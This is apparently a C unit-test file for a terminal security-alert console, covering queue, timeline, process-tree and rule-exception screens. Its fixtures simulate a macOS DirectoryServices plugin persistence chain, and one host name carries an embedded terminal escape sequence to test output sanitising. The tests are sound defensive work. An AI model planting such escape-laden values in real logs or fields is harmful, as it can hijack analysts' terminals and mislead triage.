	assert_string_equal(app_message(app), "note discarded");
	assert_false(screen_has("gone"));
	/* the Overview says the alert's status, why, and how it came to be */
	keys("1");
	assert_true(screen_has("status        closed (benign_positive): checked"));
	assert_true(screen_has("history       open → closed (benign_positive): checked [closed with"));
	assert_true(screen_has("checklist items open: 2, 3, 4, 5, 6], amy, 2026-01-01 00:01:30")); /* at 80 columns */
	assert_true(screen_has("                 UTC")); /* its zone wraps to the next row */
	/* t: the history in the analyst's zone, labelled (Berlin is UTC+1 in January: CET) */
	char *old_tz = getenv("TZ") ? xstrdup(getenv("TZ")) : NULL;
	setenv("TZ", "Europe/Berlin", 1);
	tzset();
	keys("t");
	assert_true(screen_has("checklist items open: 2, 3, 4, 5, 6], amy, 2026-01-01 01:01:30")); /* at 80 columns */
	assert_true(screen_has("                 CET")); /* its zone wraps to the next row */
	keys("t");
	assert_true(screen_has("checklist items open: 2, 3, 4, 5, 6], amy, 2026-01-01 00:01:30")); /* at 80 columns */
	assert_true(screen_has("                 UTC")); /* its zone wraps to the next row */
	if (old_tz)
		setenv("TZ", old_tz, 1);
	else
		unsetenv("TZ");
	free(old_tz);
	tzset();
}

/* LANG=C over SSH: the console draws ASCII only, in the same columns. */
static void test_ascii_terminal(void **state)
{
	(void)state;
	draw_set_ascii(1);
	app_draw(app);
	int rows_with_text = 0;
	for (int y = 0; y < LINES; y++) {
		char row[1024];
		screen_row(y, row, sizeof(row));
		for (const char *c = row; *c; c++)
			if ((unsigned char)*c >= 0x80)
				fail_msg("row %d is not ASCII: %s", y, row);
		rows_with_text += row[0] != '\0';
	}
	draw_set_ascii(0); /* before the check: a failure must not leave the next tests in ASCII */
	assert_true(rows_with_text > 3);
	app_draw(app);
	assert_true(screen_has("● medium"));
	draw_set_ascii(1);
	app_draw(app);
	int ascii_row = screen_has("  * medium   05-01 10:00:00 mac|evil^]0;p~ Persiste~fication /Library/~9B.dsplug");
	draw_set_ascii(0);
	assert_true(ascii_row);
	assert_true(screen_has("● medium"));
}

static void test_screens_132x40_and_resizes(void **state)
{
	(void)state;
	screen_resize(40, 132);
	check_screen("queue-132x40");
	keys("j\n3"); /* the older alert: the hostile one */
	check_screen("timeline-132x40");
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	check_screen("timeline-resized-80x24");
	screen_resize(15, 59);
	app_handle_key(app, KEY_RESIZE);
	check_screen("too-small");
	/* nothing can be seen: keys do nothing (q went back to the queue, A acknowledged) */
	keys("qA");
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	check_screen("timeline-resized-80x24");
}

/* The demo case with every enabled pack rule: the companion sequence's alert. */
static int setup_demo(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	char *err = NULL;
	struct strbuf o1, o2;
	strbuf_init(&o1, 64);
	strbuf_init(&o2, 64);
	assert_int_equal(
	    tu_run(&o1, &o2, "{ build/release/gen-events --events 2000 --hosts 8 > '%s'; }", tu_path("demo.ndjson")),
	    0);
	strbuf_release(&o1);
	strbuf_release(&o2);
	static int demo_no;
	char demo_name[32];
	snprintf(demo_name, sizeof(demo_name), "tui-demo-%d.db", ++demo_no);
	assert_int_equal(store_open(tu_path(demo_name), STORE_CREATE, &db, &err), 0);
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, tu_path("demo.ndjson"), &o, &c), INGEST_OK);
	fclose(devnull);
	struct detect_options d = {.now_us = T0};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &d, &t), 0);
	assert_int_equal(t.created, 11);
	assert_int_equal(pipe(pipefd), 0);
	in = fdopen(pipefd[0], "r");
	out = fopen("/dev/null", "w");
	assert_int_equal(screen_open(out, in, 45, 132), 0);
	struct app_options ao = {.analyst = "amy", .db_name = "demo.db", .clock = fixed_clock, .colors = 0};
	app = app_new(db, &ao);
	assert_int_equal(app_load(app), 0);
	return 0;
}

/* A sequence alert Kibana raised and its two building blocks (build_alert_group_from_sequence.ts:
 * each block with kibana.alert.group.id and .index and building_block_type "default", the
 * sequence alert with the group's id alone), imported: the queue shows the sequence alone. */
#define KIBANA_GROUP_MEMBER(id, at, extra)                                                                             \
	"{\"_index\":\".internal.alerts-security.alerts-default-000001\",\"_id\":\"" id "\",\"_source\":{"             \
	"\"@timestamp\":\"2024-05-01T12:00:0" at "Z\",\"kibana.alert.uuid\":\"" id "\",\"kibana.alert.rule.rule_id\":" \
	"\"seq\",\"kibana.alert.rule.name\":\"Plist written then loaded\",\"kibana.alert.rule.type\":\"eql\","         \
	"\"kibana.alert.rule.severity\":\"high\",\"kibana.alert.rule.risk_score\":73,\"kibana.alert.severity\":"       \
	"\"high\","                                                                                                    \
	"\"kibana.alert.risk_score\":73,\"kibana.alert.group.id\":\"g1\"" extra ",\"event\":{\"kind\":\"signal\"},"    \
	"\"host\":{\"name\":\"mac-bb\"}}}\n"
#define KIBANA_BLOCK(id, at, index)                                                                                    \
	KIBANA_GROUP_MEMBER(id, at,                                                                                    \
	                    ",\"kibana.alert.building_block_type\":\"default\",\"kibana.alert.group.index\":" index)

static int open_kibana_sequence(const char *db_name)
{
	setlocale(LC_ALL, "C.UTF-8");
	char *err = NULL;
	assert_int_equal(store_open(tu_path(db_name), STORE_CREATE, &db, &err), 0);
	tu_write_str(tu_path("kibana-seq.json"), KIBANA_BLOCK("bb-one", "1", "0") KIBANA_BLOCK("bb-two", "2", "1")
	                                             KIBANA_GROUP_MEMBER("sq-alert", "3", ""));
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, tu_path("kibana-seq.json"), &o, &c), INGEST_OK);
	struct kibana_counts k;
	assert_int_equal(kibana_alerts_import(db, 0, T0, NULL, &k), 0);
	assert_int_equal(k.added, 3);
	fclose(devnull);
	/* the rule as a detection-rules TOML brings it, with its [metadata] (replacing the stand-in) */
	struct rule_row rr = {.rule_id = "seq",
	                      .uuid = "seq-rule-uuid",
	                      .version = 1,
	                      .name = "Plist written then loaded",
	                      .type = "eql",
	                      .language = "eql",
	                      .source = "toml",
	                      .json = "{\"rule_id\":\"seq\",\"name\":\"Plist written then loaded\",\"type\":\"eql\","
	                              "\"language\":\"eql\",\"query\":\"any where true\",\"severity\":\"high\","
	                              "\"risk_score\":73,\"description\":\"d\",\"version\":1}",
	                      .metadata = "{\"creation_date\":\"2024/01/02\",\"integration\":[\"endpoint\"],"
	                                  "\"maturity\":\"production\",\"updated_date\":\"2024/03/04\"}"};
	enum upsert_result ur;
	if (store_rule_put(db, &rr, &ur))
		fail_msg("%s", store_errmsg(db));
	assert_int_equal(pipe(pipefd), 0);
	in = fdopen(pipefd[0], "r");
	out = fopen("/dev/null", "w");
	assert_int_equal(screen_open(out, in, 24, 100), 0);
	struct app_options ao = {.analyst = "amy", .db_name = "case.db", .clock = fixed_clock, .colors = 0};
	app = app_new(db, &ao);
	assert_int_equal(app_load(app), 0);
	return 0;
}

static int setup_kibana_sequence(void **state)
{
	(void)state;
	return open_kibana_sequence("tui-kibana-seq.db");
}

/* The same in a case of its own (a case is made once). */
static int setup_kibana_sequence_again(void **state)
{
	(void)state;
	return open_kibana_sequence("tui-kibana-seq-nested.db");
}

/* One plugin write and 9,000 other events on its host within ten minutes of it: the timeline
 * drew from a fixed array of 8,192 rows, so G (its end) showed a blank list. */
static int setup_long_timeline(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct strbuf ev;
	strbuf_init(&ev, 1 << 21);
	strbuf_addstr(&ev,
	              "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"w\",\"category\":[\"file\"],"
	              "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":"
	              "{\"type\":\"macos\"}},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\"}}\n");
	for (int i = 0; i < 9000; i++)
		strbuf_addf(
		    &ev,
		    "{\"@timestamp\":\"2024-05-01T%s:%02d:%02d.%dZ\",\"event\":{\"id\":\"e%d\",\"category\":"
		    "[\"process\"],\"action\":\"exec\"},\"host\":{\"id\":\"h\",\"name\":\"mac\"},\"process\":{\"name\":"
		    "\"p\",\"executable\":\"%s\"}}\n",
		    i < 4500 ? "09" : "10", i < 4500 ? 52 + i / 600 : (i - 4500) / 600, (i / 10) % 60, i % 10, i,
		    i == 8999 ? "/usr/bin/the-last-event" : "/bin/p");
	tu_write(tu_path("long.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	char *err = NULL;
	assert_int_equal(store_open(tu_path("tui-long.db"), STORE_CREATE, &db, &err), 0);
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	tu_seed_rule_only(db);
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, tu_path("long.ndjson"), &o, &c), INGEST_OK);
	fclose(devnull);
	assert_int_equal(c.added, 9001);
	struct detect_options d = {.now_us = T0};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &d, &t), 0);
	assert_int_equal(t.created, 1);
	assert_int_equal(pipe(pipefd), 0);
	in = fdopen(pipefd[0], "r");
	out = fopen("/dev/null", "w");
	assert_int_equal(screen_open(out, in, 40, 132), 0);
	struct app_options ao = {.analyst = "amy", .db_name = "long.db", .clock = fixed_clock, .colors = 0};
	app = app_new(db, &ao);
	assert_int_equal(app_load(app), 0);
	return 0;
}

/* A case of the seed rule over the events of tests' file name, and the console on it. */
static char case_path[512]; /* the case open_case_on made */

static void open_case_on(const char *ndjson_path, const char *dbname, size_t added, int64_t alerts)
{
	char ndjson[512]; /* tu_path's buffer rotates */
	snprintf(ndjson, sizeof(ndjson), "%s", ndjson_path);
	static int made;
	char name[64];
	snprintf(name, sizeof(name), "%d-%s", ++made, dbname);
	snprintf(case_path, sizeof(case_path), "%s", tu_path(name));
	char *err = NULL;
	assert_int_equal(store_open(case_path, STORE_CREATE, &db, &err), 0);
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	tu_seed_rule_only(db);
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, ndjson, &o, &c), INGEST_OK);
	fclose(devnull);
	assert_int_equal(c.added, added);
	struct detect_options d = {.now_us = T0};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &d, &t), 0);
	assert_int_equal(t.created, alerts);
	assert_int_equal(pipe(pipefd), 0);
	in = fdopen(pipefd[0], "r");
	out = fopen("/dev/null", "w");
	assert_int_equal(screen_open(out, in, 40, 132), 0);
	struct app_options ao = {.analyst = "amy", .db_name = dbname, .clock = fixed_clock, .colors = 0};
	app = app_new(db, &ao);
	assert_int_equal(app_load(app), 0);
}

static int collect_paths(void *ctx, const struct alert_row *a)
{
	strbuf_addf(ctx, "%s\n", a->file_path ? a->file_path : "-");
	return 0;
}

/* A plugin whose path is 642 bytes long: the exception dialog carried the value inside a
 * 400-byte label and parsed it back, so the exception stored 386 bytes and never matched. */
static char long_path[700];

static int setup_long_path(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct strbuf dir;
	strbuf_init(&dir, 700);
	strbuf_addstr(&dir, "/Library/DirectoryServices/PlugIns/");
	while (dir.len < 642 - strlen(".dsplug"))
		strbuf_addch(&dir, 'a' + (char)(dir.len % 26));
	strbuf_addstr(&dir, ".dsplug");
	assert_int_equal(dir.len, 642);
	snprintf(long_path, sizeof(long_path), "%s", dir.buf);
	strbuf_release(&dir);
	struct strbuf ev;
	strbuf_init(&ev, 4096);
	strbuf_addf(&ev,
	            "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"w1\",\"category\":[\"file\"],"
	            "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":"
	            "{\"type\":\"macos\"}},\"file\":{\"path\":\"%s\"}}\n",
	            long_path);
	tu_write(tu_path("longpath.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	open_case_on(tu_path("longpath.ndjson"), "tui-longpath.db", 1, 1);
	return 0;
}

/* The section of docs/CONSOLE.md headed heading lists every action of the table that works in
 * ctx (its keys and help as the table has them), before the next heading. */
static void doc_section_lists(const char *doc, const char *heading, unsigned ctx)
{
	const char *from = strstr(doc, heading);
	if (!from)
		fail_msg("docs/CONSOLE.md has no section %s", heading);
	const char *to = strstr(from + strlen(heading), "\n### ");
	size_t len = to ? (size_t)(to - from) : strlen(from);
	for (int i = 1; i < ACT_COUNT; i++) {
		if (!(tui_actions[i].ctx & ctx))
			continue;
		char row[300];
		snprintf(row, sizeof(row), "| `%s` | %s |", keymap_keys(i), tui_actions[i].help);
		const char *at = strstr(from, row);
		if (!at || (size_t)(at - from) >= len)
			fail_msg("docs/CONSOLE.md's %.*s does not list: %s", (int)strlen(heading) - 1, heading, row);
	}
}

/* A plugin written by the last of 3,000 generations of shells: the console's tree drew each
 * line indented three columns a level, so 30,000 generations took gigabytes and aborted. */
static int setup_deep_tree(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct strbuf ev;
	strbuf_init(&ev, 1 << 20);
	for (int i = 0; i < 3000; i++) {
		char parent[64] = "";
		if (i)
			snprintf(parent, sizeof(parent), ",\"parent\":{\"entity_id\":\"p%d\"}", i - 1);
		strbuf_addf(&ev,
		            "{\"@timestamp\":\"2024-05-01T09:%02d:%02d.%dZ\",\"event\":{\"id\":\"e%d\",\"category\":"
		            "[\"process\"],\"action\":\"exec\"},\"host\":{\"id\":\"h\",\"name\":\"mac\"},\"process\":{"
		            "\"entity_id\":\"p%d\",\"name\":\"sh\"%s}}\n",
		            50 + i / 600, i / 10 % 60, i % 10, i, i, parent);
	}
	strbuf_addstr(&ev, "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"w\",\"category\":[\"file\"],"
	                   "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\","
	                   "\"os\":{\"type\":\"macos\"}},\"process\":{\"entity_id\":\"p2999\",\"name\":\"sh\","
	                   "\"parent\":{\"entity_id\":\"p2998\"}},\"file\":{\"path\":"
	                   "\"/Library/DirectoryServices/PlugIns/x.dsplug\"}}\n");
	tu_write(tu_path("deep.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	open_case_on(tu_path("deep.ndjson"), "tui-deep.db", 3001, 1);
	return 0;
}

/* 3,000 generations at 80 columns: each row keeps its first and last levels' guides and says
 * how many it elides; the tree opens on the alert's process, the last, and g reaches the root. */
static void test_a_deep_process_tree(void **state)
{
	(void)state;
	screen_resize(24, 80);
	keys("\nT");
	check_screen("tree-deep-80x24");
	assert_true(screen_has("3000 processes"));
	keys("g");
	assert_true(screen_has("  sh"));
	keys("G");
	assert_true(screen_has("▶ "));
	keys("q");
	assert_true(screen_has("x.dsplug"));
}

/* The tree of the demo's attack (Kibana's Analyzer): opened on the sequence alert, its
 * processes marked; a row per process with its guides, the selected one's description,
 * alerts and events below; folding, finding, the events in full, the tree around another
 * process, and the timeline pivoted on one. The parent of ZoomUpdate is what its own event
 * says (Finder, pid 388), not what other children of the same entity said (zsh). */
static void test_process_tree_view(void **state)
{
	(void)state;
	screen_resize(45, 160);
	keys("jjjjj\n"); /* the sequence on mac-lisbon-01 */
	keys("T");
	check_screen("tree-demo-160x45");
	assert_true(screen_has("Finder (pid 388) (no event: as its child says)"));
	assert_false(screen_has("zsh"));
	/* j to mv: its two alerts and its events in the pane */
	keys("j");
	assert_true(screen_has("mv /private/tmp/.zu/CoreSync.dsplug /Library/DirectoryServices/PlugIns/"));
	keys("e");
	assert_true(screen_has("Events and alerts of mv (pid 746)"));
	assert_true(screen_has("file/rename /Library/DirectoryServices/PlugIns/CoreSync.dsplug"));
	keys("q");
	/* Enter on ZoomUpdate folds its children, + unfolds all */
	keys("k\n");
	assert_false(screen_has("launchctl (pid 747)"));
	assert_true(screen_has("+└─ ZoomUpdate"));
	keys("+");
	assert_true(screen_has("launchctl (pid 747)"));
	/* / finds a process; T builds the tree around it; a goes back to the start */
	keys("/launchctl\n");
	keys("T");
	assert_true(screen_has("▶    └─ launchctl (pid 747) root"));
	keys("?");
	assert_true(screen_has("Process tree keys"));
	assert_true(screen_has("Enter Space              fold or unfold the process's descendants"));
	keys("q");
	/* docs/CONSOLE.md lists every key of the view */
	FILE *f = fopen("docs/CONSOLE.md", "r");
	assert_non_null(f);
	static char doc[65536];
	size_t len = fread(doc, 1, sizeof(doc) - 1, f);
	doc[len] = '\0';
	fclose(f);
	doc_section_lists(doc, "### Process tree\n", CTX_TREE);
	/* 80x24, then LANG=C: ASCII guides, the same columns */
	screen_resize(24, 80);
	keys("qT");
	check_screen("tree-demo-80x24");
	setlocale(LC_ALL, "C");
	draw_set_ascii(1);
	int ascii = screen_has("> `- ZoomUpdate (pid 745) amara [2 alerts]");
	check_screen("tree-demo-ascii-80x24");
	draw_set_ascii(0);
	setlocale(LC_ALL, "C.UTF-8");
	assert_true(ascii);
	/* p: the alert's timeline, only the selected process's events */
	keys("j");
	keys("p");
	assert_true(view_top(app) == &alert_view);
	assert_int_equal(alert_of(app)->tab, TAB_timeline);
	assert_int_equal(alert_of(app)->pivot, PIVOT_PROCESS);
	assert_true(screen_has("file/rename"));
	assert_false(screen_has("launchctl kickstart"));
}

static void test_exception_on_a_642_byte_path_matches(void **state)
{
	(void)state;
	/* the builder starts on file.path is its whole value; Enter previews, y saves, 1 leaves the
	 * matching alert open */
	keys("E\ny1");
	assert_true(screen_has("the matching alerts stay as they are"));
	/* the same plugin written again an hour later: the exception holds, no alert; a plugin whose
	 * path differs in its last letter still alerts (the exception is that exact path) */
	char other[700];
	snprintf(other, sizeof(other), "%s", long_path);
	other[strlen(other) - strlen(".dsplug") - 1] = 'Z';
	struct strbuf ev;
	strbuf_init(&ev, 4096);
	const char *paths[] = {long_path, other};
	for (int i = 0; i < 2; i++)
		strbuf_addf(
		    &ev,
		    "{\"@timestamp\":\"2024-05-01T11:0%d:00Z\",\"event\":{\"id\":\"w%d\",\"category\":[\"file\"],"
		    "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":"
		    "{\"type\":\"macos\"}},\"file\":{\"path\":\"%s\"}}\n",
		    i, i + 2, paths[i]);
	tu_write(tu_path("longpath2.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, tu_path("longpath2.ndjson"), &o, &c), INGEST_OK);
	fclose(devnull);
	struct detect_options d = {.now_us = T0};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &d, &t), 0);
	assert_int_equal(t.created, 1);
	struct alert_query q = {0};
	struct strbuf seen;
	strbuf_init(&seen, 4096);
	assert_int_equal(store_alerts_each(db, &q, collect_paths, &seen), 0);
	assert_int_equal(tu_count(seen.buf, long_path), 1); /* the first alert only */
	assert_int_equal(tu_count(seen.buf, other), 1);
	strbuf_release(&seen);
}

/* The exception builder (Kibana's flyout): the alert's event's fields, a condition made of
 * one, the preview asking, a broad one asking twice, and "close alerts that match". */
static void test_exception_builder_screens(void **state)
{
	(void)state;
	keys("\n"); /* the first alert */
	keys("E");
	check_screen("exception-builder-80x24");
	keys("\n");
	check_screen("exception-preview-80x24");
	keys("n");
	check_screen("exception-declined-80x24");
	screen_resize(45, 160); /* the same builder and preview on a wide terminal */
	app_handle_key(app, KEY_RESIZE);
	check_screen("exception-builder-160x45");
	keys("\n");
	check_screen("exception-preview-160x45");
	keys("n");
	screen_resize(24, 80);
	app_handle_key(app, KEY_RESIZE);
	check_screen("exception-declined-80x24");
	/* the file path off, host.name on: broad (a whole host), so asked twice */
	keys(" ");
	keys("g");
	app_draw(app);
	int line = -1;
	for (int y = 2; y < LINES - 1 && line < 0; y++) {
		char row[1024];
		screen_row(y, row, sizeof(row));
		if (!strncmp(row, "[ ] host.name ", 14))
			line = y;
	}
	assert_true(line >= 2); /* rows start on line 2, the first selected */
	for (int y = 2; y < line; y++)
		keys("j");
	keys(" ");
	keys("\n");
	check_screen("exception-broad-80x24");
	keys("y");
	check_screen("exception-broad-again-80x24");
	keys("n");
	assert_true(screen_has("not added"));
	/* back to the file path alone: saved, and the open alert it matches closed */
	keys("q");
	keys("E"); /* a fresh builder, starting on file.path */
	keys("\ny");
	check_screen("exception-close-choice-80x24");
	keys("2");
	assert_true(screen_has("1 matching alert closed"));
	keys("6"); /* the Notes tab: the exception is in the record */
	check_screen("notes-exception-80x24");
	/* from a timeline event's field table: the builder on that event, the field a condition */
	keys("3i");
	assert_true(screen_has("Event fields"));
	keys("GE");
	assert_true(screen_has("Rule exception"));
	assert_true(screen_has("[x] "));
	keys("q");
	assert_true(screen_has("Event fields"));
}

/* The builder's keys come from the key table, and none of them clears the status line's
 * message (CTX_KEEPS_MESSAGE): "not added" stays while the analyst moves and edits, where in
 * the alert view the next key clears it. Keys of the table the builder does not take (Q, ?)
 * do nothing there. */
static void test_exception_builder_keeps_its_message(void **state)
{
	(void)state;
	assert_int_equal(keymap_lookup('x', CTX_EXCEPTION), ACT_CONDITION);
	assert_int_equal(keymap_lookup(' ', CTX_EXCEPTION), ACT_CONDITION);
	assert_int_equal(keymap_lookup('p', CTX_EXCEPTION), ACT_PREVIEW);
	assert_int_equal(keymap_lookup('\n', CTX_EXCEPTION), ACT_PREVIEW);
	assert_int_equal(keymap_lookup('e', CTX_EXCEPTION), ACT_VALUE);
	assert_int_equal(keymap_lookup('o', CTX_EXCEPTION), ACT_OPERATOR);
	FILE *f = fopen("docs/CONSOLE.md", "r");
	assert_non_null(f);
	static char doc[65536];
	size_t len = fread(doc, 1, sizeof(doc) - 1, f);
	doc[len] = '\0';
	fclose(f);
	doc_section_lists(doc, "### Exception builder\n", CTX_EXCEPTION);
	keys("\n"); /* the first alert */
	keys("E");
	keys("\n");
	keys("n");
	assert_string_equal(app->msg, "not added");
	check_screen("exception-declined-80x24");
	keys("kjz"); /* moving, and a key the table does not have */
	assert_string_equal(app->msg, "not added");
	check_screen("exception-declined-80x24");
	keys("Q?");
	assert_false(app->done);
	assert_true(view_top(app) == &exception_view);
	check_screen("exception-declined-80x24");
	keys(" "); /* the file path off, then on again (the preview goes: it is stale) */
	keys("x");
	assert_string_equal(app->msg, "not added");
	assert_true(screen_has("[x] file.path"));
	keys("q");
	assert_true(view_top(app) == &alert_view);
	assert_string_equal(app->msg, "not added");
	keys("j"); /* in the alert view a key clears it */
	assert_string_equal(app->msg, "");
}

/* Sixty plugin writes, sixty alerts: more than the queue shows at once. */
static int setup_many_alerts(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct strbuf ev;
	strbuf_init(&ev, 1 << 16);
	for (int i = 0; i < 60; i++)
		strbuf_addf(
		    &ev,
		    "{\"@timestamp\":\"2024-05-01T10:%02d:00Z\",\"event\":{\"id\":\"m%d\",\"category\":[\"file\"],"
		    "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\",\"os\":"
		    "{\"type\":\"macos\"}},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/p%02d.dsplug\"}}\n",
		    i, i, i);
	tu_write(tu_path("many.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	open_case_on(tu_path("many.ndjson"), "tui-many.db", 60, 60);
	return 0;
}

/* The plugin name ("pNN.dsplug") on screen line y. */
static void plugin_on_line(int y, char name[16])
{
	app_draw(app);
	char row[1024];
	screen_row(y, row, sizeof(row));
	const char *p = strstr(row, ".dsplug");
	assert_non_null(p);
	snprintf(name, 16, "%.10s", p - 3);
}

/* A click selects the row under the pointer on a scrolled queue (it was Home, then a Down per
 * line: the row that many lines from the top of the whole queue). */
static void test_click_on_a_scrolled_queue(void **state)
{
	(void)state;
	keys("G");
	char want[16], path[128];
	plugin_on_line(3, want);
	app_click(app, 3, 10);
	keys("\n"); /* the alert view's File line names the alert's own path */
	snprintf(path, sizeof(path), "File            /Library/DirectoryServices/PlugIns/%s", want);
	assert_true(screen_has(path));
	/* no process in the event: no code signature line either (an event with a process and no
	 * code_signature says "none recorded": tests/test_record.c) */
	assert_false(screen_has("Code signature"));
	keys("q");
	plugin_on_line(5, want);
	app_click(app, 5, 40);
	keys("\n");
	snprintf(path, sizeof(path), "File            /Library/DirectoryServices/PlugIns/%s", want);
	assert_true(screen_has(path));
}

/* A read that fails while a view loads is said on the status line: another process took the
 * notes table away while the console was open (the view used to look whole, and empty). */
static void test_a_failed_load_is_said(void **state)
{
	(void)state;
	sqlite3 *raw;
	assert_int_equal(sqlite3_open(case_path, &raw), SQLITE_OK);
	assert_int_equal(sqlite3_exec(raw, "DROP TABLE notes", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(raw);
	keys("\n");
	assert_true(screen_has("could not read the notes: preparing a statement: no such table: notes"));
}

static int screen_has(const char *text)
{
	app_draw(app);
	for (int y = 0; y < LINES; y++) {
		char row[1024];
		screen_row(y, row, sizeof(row));
		if (strstr(row, text))
			return 1;
	}
	for (int y = 0; getenv("TUI_DUMP") && y < LINES; y++) { /* TUI_DUMP=1: the screen without the text */
		char row[1024];
		screen_row(y, row, sizeof(row));
		fprintf(stderr, "|%s\n", row);
	}
	return 0;
}

static void test_timeline_of_9001_events_reaches_its_end(void **state)
{
	(void)state;
	keys("\n3");
	assert_true(screen_has("±10m"));
	assert_false(screen_has("the-last-event"));
	keys("G");
	assert_true(screen_has("the-last-event"));
	keys("g");
	assert_true(screen_has("09:52:00"));
}

/* 10,050 process events on one host, in bursts from 2024-04-30T23:00:00Z, and the seed rule's
 * plugin write at 00:05 on May 1st: a timeline whose window crosses midnight, and a browser of
 * more events than one page holds. Event 10,040 names a process no other does. */
static int setup_many_events(void **state)
{
	(void)state;
	setlocale(LC_ALL, "C.UTF-8");
	struct strbuf ev;
	strbuf_init(&ev, 1 << 21);
	strbuf_addstr(&ev,
	              "{\"@timestamp\":\"2024-05-01T00:05:00.250Z\",\"event\":{\"id\":\"w\",\"category\":[\"file\"],"
	              "\"type\":[\"creation\"],\"action\":\"creation\"},\"host\":{\"id\":\"h\",\"name\":\"mac\","
	              "\"os\":{\"type\":\"macos\"}},\"process\":{\"name\":\"mv\",\"pid\":745,\"entity_id\":\"mv1\"},"
	              "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\"}}\n");
	int64_t t = INT64_C(1714518000000000); /* 2024-04-30T23:00:00Z */
	for (int i = 0; i < 10050; i++) {
		char ts[TIME_ISO_LEN];
		time_format_iso8601(t, ts);
		t += (i / 300) % 4 ? 700000 : 100000; /* bursts: a histogram of more than one height */
		strbuf_addf(&ev,
		            "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"e%d\",\"category\":[\"process\"],\"action\":"
		            "\"exec\"},\"host\":{\"id\":\"h\",\"name\":\"%s\"},\"process\":{\"name\":\"%s\",\"pid\":%d,"
		            "\"entity_id\":\"p%d\",\"executable\":\"/bin/p%d\"}}\n",
		            ts, i, "mac",
		            i == 10040  ? "needle-late"
		            : i % 7 < 3 ? "bash"
		                        : "zsh",
		            1000 + i % 7, i % 7, i);
	}
	tu_write(tu_path("many.ndjson"), ev.buf, ev.len);
	strbuf_release(&ev);
	open_case_on(tu_path("many.ndjson"), "tui-many.db", 10051, 1);
	return 0;
}

/* The timeline of a window that crosses midnight: each row carries its date (23:59:59 before
 * 00:00:00 is not out of order then), the heading says ±10m, the histogram marks the alert. */
static void test_timeline_across_days(void **state)
{
	(void)state;
	screen_resize(24, 80);
	keys("\n3");
	check_screen("timeline-days-80x24");
	assert_true(screen_has(" ±10m · all processes · category all"));
	assert_true(screen_has("▶ 05-01 00:05:00 file/creation"));
	assert_true(screen_has("04-30 23:55:00                         ▲ alert                    05-01 00:15:00"));
	keys("kp"); /* the row before the alert's: a bash process of pid 1002 */
	assert_true(screen_has(" ±10m · process bash (pid 1002) · category all"));
	screen_resize(45, 160);
	app_handle_key(app, KEY_RESIZE);
	check_screen("timeline-days-160x45");
	keys("p-");
	keys("-");
	keys("-");
	keys("-");
	keys("-");
	assert_true(screen_has(" ±18s 750ms · all processes")); /* 600 s halved five times */
	/* a bad KQL comes back in the prompt, with the reason */
	keys("\\process.name:(\n");
	assert_true(screen_has("KQL error at column"));
	assert_true(screen_has("process.name:("));
	app_handle_key(app, 27);
	assert_false(screen_has("· KQL"));
}

/* The browser holds a page of 10,000 events and moves on to the next by keyset, down to the
 * last of 10,051; search goes through the pages; s and S sort the page held. */
static void test_browser_pages_past_ten_thousand_events(void **state)
{
	(void)state;
	screen_resize(24, 80);
	keys("v");
	assert_true(screen_has("events 1-10000 of more"));
	assert_true(screen_has("2024-04-30 23:00:00"));
	keys("G");
	assert_true(screen_has("events 10001-10051"));
	check_screen("events-last-page-80x24");
	keys("g");
	assert_true(screen_has("events 1-10000 of more"));
	/* j past the first page's last row reads the second page; k back the first */
	for (int i = 0; i < 9999; i++)
		app_handle_key(app, 'j');
	assert_true(screen_has("events 1-10000 of more"));
	keys("j");
